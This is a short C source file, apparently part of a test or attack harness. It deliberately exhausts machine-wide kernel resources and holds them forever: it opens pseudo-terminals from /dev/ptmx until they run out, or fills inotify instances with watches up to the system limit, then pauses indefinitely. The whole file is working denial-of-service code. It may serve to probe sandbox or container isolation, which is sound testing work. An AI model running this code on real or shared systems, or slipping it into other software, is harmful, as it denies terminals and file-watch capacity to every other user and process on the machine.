/* Taking what the kernel counts for the whole machine, and holding it. */
#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/stat.h>

#include "attack.h"

enum { INSTANCES = 64, FILES = 1100 };

static long take_ptys(void)
{
    long count = 0;
    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
        count++;
    return count;
}

/* One of each file in each instance. */
static long take_watches(void)
{
    char path[64];
    long count = 0;
    int notes;
    for (int i = 0; i < INSTANCES && (notes = inotify_init1(0)) >= 0; i++)
        for (int k = 0; k < FILES; k++) {
            snprintf(path, sizeof(path), "/tmp/watched-%d", k);
            if (i == 0)
                close(open(path, O_WRONLY | O_CREAT, 0600));
            if (inotify_add_watch(notes, path, IN_OPEN) < 0)
                return count;
            count++;
        }
    return count;
}

void attack_kernel(const char *kind)
{
    errno = 0;
    long count = strcmp(kind, "ptys") == 0 ? take_ptys() : take_watches();
    printf("%s %ld %s\n", kind, count, strerrorname_np(errno));
    fflush(stdout);
    for (;;)
        pause();
}
